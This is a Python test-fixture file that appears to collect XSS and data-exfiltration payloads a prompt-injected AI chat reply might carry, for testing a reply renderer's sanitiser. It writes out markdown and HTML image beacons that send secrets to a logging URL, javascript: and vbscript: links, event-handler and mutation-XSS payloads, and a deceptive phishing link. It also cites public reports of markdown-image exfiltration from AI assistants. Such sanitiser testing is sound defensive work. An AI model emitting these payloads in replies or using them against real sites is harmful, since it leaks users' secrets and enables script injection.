"""Exfiltration and injection payloads a reply may carry (a prompt injection in attached data can put them there).

Sources: OWASP XSS Filter Evasion Cheat Sheet (obfuscated ``javascript:``, case/whitespace/entity tricks,
``<IMG SRC=...>``, ``<scr<script>ipt>``, unclosed tags, ``<BASE HREF>``, ``<META HTTP-EQUIV=refresh>``,
``STYLE=background:url()``, ``<LINK REL=stylesheet>``, ``@import``); the markdown-image data exfiltration
reports by Johann Rehberger (embracethered.com) on ChatGPT plugins, Bing Chat, Google Bard/Gemini, GitHub
Copilot Chat, Slack AI and Claude, and by PromptArmor on Slack AI (``![x](https://host/?q=SECRET)``, reference
images, ``<img src>``); Gareth Heyes / PortSwigger on mutation XSS through ``<math>``/``<svg>`` namespace
confusion (``<math><mtext><table><mglyph><style><img ...>``); the DOMPurify bypass write-ups (Michał Bentkowski,
Securitum); HTML5 Security Cheatsheet (html5sec.org: ``formaction``, ``autofocus onfocus``, ``ontoggle``,
``srcset``, ``<picture><source>``, ``<svg><use href>``, ``poster``).

Each payload holds ``{leak}`` (an ``http://127.0.0.1:PORT/leak?secret=...`` URL of the test's logging server)
and, where script could run, ``document.title='PWNED'``. ``visible``: text that must still be readable.
"""

from __future__ import annotations

#: Run ``payload.format(leak=...)`` to fill in the logging server's URL.
PAYLOADS: list[dict] = [
    {
        "id": "md-image",
        "reply": "Here is the chart: ![chart]({leak}/md-image?secret=API_KEY)",
        "visible": ["chart"],
    },
    {"id": "md-image-title", "reply": '![a]({leak}/md-image-title?s=1 "title")', "visible": []},
    {
        "id": "md-image-reference",
        "reply": "See ![a][1] now.\n\n[1]: {leak}/md-image-ref?secret=x",
        "visible": ["now"],
    },
    {
        "id": "md-image-collapsed",
        "reply": "![logo][]\n\n[logo]: {leak}/md-image-collapsed",
        "visible": ["logo"],
    },
    {
        "id": "md-image-in-link",
        "reply": "[![badge]({leak}/badge.svg)](https://example.com)",
        "visible": ["badge"],
    },
    {"id": "md-image-angle", "reply": "![x](<{leak}/md-image-angle?a b>)", "visible": []},
    {"id": "md-autolink", "reply": "Open <{leak}/autolink?secret=1> later", "visible": ["later"]},
    {"id": "md-js-link", "reply": "[click me](javascript:document.title='PWNED')", "visible": ["click me"]},
    {"id": "md-js-entity-link", "reply": "[x](&#x6A;avascript:document.title='PWNED')", "visible": ["x"]},
    {"id": "md-js-autolink", "reply": "<javascript:document.title='PWNED'>", "visible": []},
    {
        "id": "md-data-html-link",
        "reply": "[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "visible": ["doc"],
    },
    {"id": "md-vbscript-link", "reply": "[v](vbscript:msgbox(1))", "visible": ["v"]},
    {
        "id": "md-deceptive-link",
        "reply": "Log in at [paypal.com]({leak}/phish)",
        "visible": ["paypal.com", "127.0.0.1"],
    },
    {
        "id": "html-img",
        "reply": 'Text <img src="{leak}/html-img?secret=1"> more',
        "visible": ["Text", "more"],
    },
    {"id": "html-img-onerror", "reply": "<img src=nope onerror=\"document.title='PWNED'\">", "visible": []},
    {
        "id": "html-img-srcset",
        "reply": 'A <img srcset="{leak}/srcset 1x" src="x.png"> B',
        "visible": ["A", "B"],
    },
    {
        "id": "html-picture",
        "reply": '<picture><source srcset="{leak}/picture"><img src="y.png"></picture>',
        "visible": [],
    },
    {"id": "html-iframe", "reply": '<iframe src="{leak}/iframe"></iframe>\n\nafter', "visible": ["after"]},
    {
        "id": "html-audio-video",
        "reply": '<video poster="{leak}/poster" src="{leak}/video"></video><audio src="{leak}/audio" autoplay></audio>',
        "visible": [],
    },
    {
        "id": "html-object-embed",
        "reply": '<object data="{leak}/object"></object><embed src="{leak}/embed">',
        "visible": [],
    },
    {"id": "html-link-stylesheet", "reply": '<link rel="stylesheet" href="{leak}/style.css">', "visible": []},
    {
        "id": "html-style-import",
        "reply": "<style>@import url('{leak}/import.css'); body {{ background: url({leak}/bg) }}</style>\n\nok",
        "visible": ["ok"],
    },
    {
        "id": "html-style-attr",
        "reply": '<div style="background:url({leak}/style-attr)">styled</div>',
        "visible": ["styled"],
    },
    {
        "id": "html-svg-image",
        "reply": '<svg><image href="{leak}/svg-image"/><use href="{leak}/svg-use#x"/></svg>',
        "visible": [],
    },
    {
        "id": "html-meta-refresh",
        "reply": '<meta http-equiv="refresh" content="0;url={leak}/refresh">',
        "visible": [],
    },
    {"id": "html-base", "reply": '<base href="{leak}/base/">\n\n![rel](chart.png)', "visible": []},
    {
        "id": "html-js-href",
        "reply": "<a href=\"javascript:document.title='PWNED'\">link</a>",
        "visible": ["link"],
    },
    {
        "id": "html-details-ontoggle",
        "reply": "<details open ontoggle=\"document.title='PWNED'\"><summary>s</summary>body</details>",
        "visible": ["body"],
    },
    {"id": "html-autofocus", "reply": "<input autofocus onfocus=\"document.title='PWNED'\">", "visible": []},
    {
        "id": "html-form",
        "reply": '<form action="{leak}/form"><input name=q value=secret><button>Send</button></form>',
        "visible": ["Send"],
    },
    {
        "id": "html-formaction",
        "reply": '<button formaction="{leak}/formaction">Go</button>',
        "visible": ["Go"],
    },
    {
        "id": "html-mxss-math",
        "reply": "<math><mtext><table><mglyph><style><img src={leak}/mxss onerror=\"document.title='PWNED'\">",
        "visible": [],
    },
    {"id": "html-case-js", "reply": "<IMG SRC=jAvAsCrIpT:document.title='PWNED'>", "visible": []},
    {
        "id": "html-entity-js",
        "reply": '<a href="&#106;avascript:document.title=&#39;PWNED&#39;">e</a>',
        "visible": ["e"],
    },
    {"id": "html-split-script", "reply": "<scr<script>ipt>document.title='PWNED'</script>", "visible": []},
    {
        "id": "html-unclosed-img",
        "reply": 'before <img src="{leak}/unclosed" onerror="document.title=\'PWNED\'"',
        "visible": ["before"],
    },
    {
        "id": "html-script",
        "reply": "<script>document.title='PWNED'; new Image().src='{leak}/script'</script>\n\nafter",
        "visible": ["after"],
    },
    {"id": "html-body-onload", "reply": "<body onload=\"document.title='PWNED'\">x</body>", "visible": ["x"]},
    {
        "id": "html-img-in-list",
        "reply": "- one\n- <img src={leak}/list-img>\n- three",
        "visible": ["one", "three"],
    },
    {
        "id": "html-block-then-markdown",
        "reply": "<textarea>\n\n![x]({leak}/textarea-md)\n</textarea>",
        "visible": [],
    },
    {
        "id": "md-image-in-table",
        "reply": "| a | b |\n|---|---|\n| ![t]({leak}/table-img) | <img src={leak}/table-html> |",
        "visible": ["a", "b"],
    },
    {"id": "md-image-in-quote", "reply": "> ![q]({leak}/quote-img)\n> said", "visible": ["said"]},
    {"id": "md-extra-table-cell", "reply": "| a |\n|---|\n| x | ![e]({leak}/extra-cell) |", "visible": ["x"]},
    {"id": "md-deep-nesting", "reply": ">" * 60 + " ![deep]({leak}/deep)", "visible": []},
]
